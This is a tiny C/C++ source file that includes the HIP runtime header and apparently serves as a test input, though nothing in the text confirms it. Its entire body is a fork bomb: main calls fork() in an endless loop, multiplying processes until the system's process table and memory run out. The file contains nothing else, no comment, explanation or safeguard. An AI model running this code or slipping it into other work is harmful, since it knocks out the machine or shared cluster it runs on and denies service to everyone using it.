#include <hip/hip_runtime.h>
#include <unistd.h>
int main() {
  for (;;)
    fork();
}
